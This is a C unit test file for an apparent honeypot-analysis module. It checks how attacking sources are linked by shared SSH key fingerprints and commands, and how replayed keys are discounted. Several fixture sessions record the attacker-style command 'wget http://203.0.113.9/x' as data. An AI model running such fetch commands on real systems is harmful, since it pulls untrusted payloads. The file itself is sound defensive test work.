/* test_carriers.c - exclusive artefacts and who carries them. */
#include "testing.h"

#include "detect/text/artefacts.h"
#include "study.h"

enum { A = 0x0a000001, B = 0x0a000002, C = 0x0a000003 };

static void
test_two_sources(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	const struct carried *c;

	(void)state;
	batch_add(b, &(struct batch_session){ .ip = A, .at_s = 0, .key = "SHA256:one" });
	batch_add(b, &(struct batch_session){ .ip = A, .at_s = 5, .key = "SHA256:one" });
	batch_add(b, &(struct batch_session){ .ip = B, .at_s = 7, .key = "SHA256:one" });
	batch_add(b, &(struct batch_session){ .ip = C, .at_s = 9, .key = "SHA256:two" });
	study_begin(&s, b, NULL);
	assert_int_equal(s.m.n_artefacts, 1); /* what one source alone carries joins nobody */
	c = &s.m.artefacts[0];
	assert_int_equal(c->kind, ARTEFACT_SSH_KEY);
	assert_string_equal(c->value, "SHA256:one");
	assert_false(c->is_public);
	assert_int_equal(c->n_nodes, 2);
	assert_int_equal(c->n_sources, 2);
	assert_int_equal(c->nodes[0], study_node(&s, A, SERVICE_SSH));
	assert_int_equal(c->nodes[1], study_node(&s, B, SERVICE_SSH));
	study_end(&s);
}

/* Two services of one source are two nodes and one source. */
static void
test_one_source_on_two_services(void **state)
{
	struct batch *b = batch_new();
	struct study s;

	(void)state;
	batch_add(b, &(struct batch_session){ .ip = A, .key = "SHA256:one" });
	batch_add(
	    b, &(struct batch_session){ .ip = A, .service = SERVICE_TELNET, .key = "SHA256:one" });
	study_begin(&s, b, NULL);
	assert_int_equal(s.m.n_nodes, 2);
	assert_int_equal(s.m.n_artefacts, 0);
	study_end(&s);
}

static void
test_order(void **state)
{
	struct batch *b = batch_new();
	struct study s;

	(void)state;
	for (uint32_t ip = A; ip <= B; ip++)
		for (char k = 'a'; k <= 'h'; k++) {
			char key[] = "SHA256:x", url[] = "wget http://203.0.113.9/x";

			key[7] = k;
			url[sizeof(url) - 2] = k;
			batch_add(b, &(struct batch_session){
					 .ip = ip, .at_s = k, .key = key, .commands = { url } });
		}
	study_begin(&s, b, NULL);
	assert_true(s.m.n_artefacts >= 16);
	for (uint32_t i = 1; i < s.m.n_artefacts; i++) {
		const struct carried *x = &s.m.artefacts[i - 1], *y = &s.m.artefacts[i];

		assert_true(x->kind < y->kind || (x->kind == y->kind && x->hash < y->hash));
	}
	study_end(&s);
}

/* Sources D, D + 1 ... have a key each; `replayers` carry all of those keys. */
static void
begin_replayed(struct study *s, uint32_t owners, uint32_t replayers)
{
	struct batch *b = batch_new();

	for (uint32_t i = 0; i < owners; i++) {
		char key[] = "SHA256:owner a";

		key[sizeof(key) - 2] = (char)('a' + i);
		batch_add(b, &(struct batch_session){ .ip = 0x0b000001 + i, .key = key });
		for (uint32_t r = 0; r < replayers; r++)
			batch_add(b, &(struct batch_session){ .ip = 0x0c000001 + r,
					 .key = key,
					 .commands = { "wget http://203.0.113.9/x" } });
	}
	study_begin(s, b, NULL);
}

/* What has three owners' keys has nobody's: A4 ties no two victims, and nothing else that it brings counts either. */
static void
test_replayers(void **state)
{
	(void)state;
	for (uint32_t owners = 1; owners <= 6; owners++)
		for (uint32_t replayers = 1; replayers <= 10; replayers += 3) {
			struct study s;
			bool several = replayers > 1; /* and the address that they fetch from */

			begin_replayed(&s, owners, replayers);
			assert_int_equal(
			    s.m.n_artefacts, owners > 2 ? 0 : owners + (several ? 1 : 0));
			study_end(&s);
		}
}

/* One operator's many keys, all of them on all hosts, are no sign of replay. */
static void
test_many_keys_of_one_owner(void **state)
{
	struct batch *b = batch_new();
	struct study s;

	(void)state;
	for (uint32_t i = 0; i < 4; i++)
		for (char k = 'a'; k <= 'e'; k++) {
			char key[] = "SHA256:x";

			key[7] = k;
			batch_add(b, &(struct batch_session){ .ip = A + i, .at_s = k, .key = key });
		}
	study_begin(&s, b, NULL);
	assert_int_equal(s.m.n_artefacts, 5);
	for (uint32_t i = 0; i < 5; i++)
		assert_int_equal(s.m.artefacts[i].n_sources, 4);
	study_end(&s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_two_sources),
		cmocka_unit_test(test_one_source_on_two_services),
		cmocka_unit_test(test_order),
		cmocka_unit_test(test_replayers),
		cmocka_unit_test(test_many_keys_of_one_owner),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
